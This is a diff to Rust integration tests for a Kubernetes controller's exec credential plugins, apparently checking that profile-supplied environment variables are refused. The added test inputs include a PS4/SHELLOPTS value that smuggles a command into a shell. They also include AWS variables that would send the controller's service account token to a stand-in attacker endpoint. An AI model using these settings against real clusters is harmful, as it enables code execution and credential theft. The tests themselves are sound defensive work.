@@ -174,7 +174,8 @@ async fn profiles_are_reached_through_the_secretreader_plugin_of_the_operators_f
                 "apiVersion": "client.authentication.k8s.io/v1", "command": wrapper,
                 "provideClusterInfo": true,
                 "env": [{"name": "HUB_CONFIG", "value": "/nonexistent/kubeconfig"}]},
-             "profileSourcedEnvVarsPolicy": "Replace"},
+             "profileSourcedEnvVarsPolicy": "Replace",
+             "profileEnvAllowed": ["HUB_CONFIG"]},
         ]})
         .to_string(),
     )
@@ -475,6 +476,10 @@ async fn a_profile_writer_cannot_steer_credentials_elsewhere_or_into_the_plugins
                     "command": wrapper, "provideClusterInfo": true,
                     "env": [{"name": "KUBECONFIG", "value": hub.kubeconfig_path()}]},
                 "profileSourcedEnvVarsPolicy": "AppendIfNotExists",
+                // What profiles may set: REGION; the rest listed too, to show that the
+                // deny-list stands behind the operator's list.
+                "profileEnvAllowed": ["REGION", "KUBECONFIG", "SHELLOPTS", "PS4",
+                    "AWS_ROLE_ARN", "AWS_WEB_IDENTITY_TOKEN_FILE", "AWS_ENDPOINT_URL_STS"],
                 "allowedServers": [member.server()]}]})
             .to_string(),
         )
@@ -520,6 +525,39 @@ async fn a_profile_writer_cannot_steer_credentials_elsewhere_or_into_the_plugins
         ),
     )
     .await;
+    // Code run by a shell plugin (bash imports PS4 for a non-root user), the controller's
+    // own service account token posted by an AWS SDK plugin, and a variable the operator
+    // did not list.
+    let marker = dir.path().join("ran");
+    for (object, envs) in [
+        (
+            "shell",
+            json!({"SHELLOPTS": "xtrace", "PS4": format!("$(touch {})", marker.display())}),
+        ),
+        (
+            "aws",
+            json!({"AWS_ROLE_ARN": "arn:aws:iam::1:role/x",
+                   "AWS_WEB_IDENTITY_TOKEN_FILE": "/var/run/secrets/kubernetes.io/serviceaccount/token",
+                   "AWS_ENDPOINT_URL_STS": "https://attacker.example.com"}),
+        ),
+        ("unlisted", json!({"ZONE": "a"})),
+    ] {
+        healthy_profile(
+            &hc,
+            "fleet",
+            object,
+            access(
+                "secretreader",
+                &member,
+                reader.clone(),
+                &[(
+                    "clusterprofiles.multicluster.x-k8s.io/exec/additional-envs",
+                    envs,
+                )],
+            ),
+        )
+        .await;
+    }
     let mut insecure = access(
         "secretreader",
         &member,
@@ -551,6 +589,9 @@ async fn a_profile_writer_cannot_steer_credentials_elsewhere_or_into_the_plugins
     for (object, note) in [
         ("elsewhere", "is not one this controller allows"),
         ("steering", "KUBECONFIG"),
+        ("shell", "PS4"),
+        ("aws", "AWS_ENDPOINT_URL_STS"),
+        ("unlisted", "profileEnvAllowed"),
     ] {
         eventually(30, &format!("{object} refused"), async || {
             has_event(&hc, "fleet", "KubeconfigRefused", object, note).await
@@ -619,6 +660,7 @@ async fn a_profile_writer_cannot_steer_credentials_elsewhere_or_into_the_plugins
             .any(|e| e.lines().any(|l| l == "REGION=east")),
         "a profile's allowed variable reaches the plugin"
     );
+    assert!(!marker.exists(), "a profile's PS4 ran");
     // The plugin never ran for the refused profiles: the hub's server is in no run's
     // cluster info.
     let hub_server = hub.server().trim_end_matches('/');
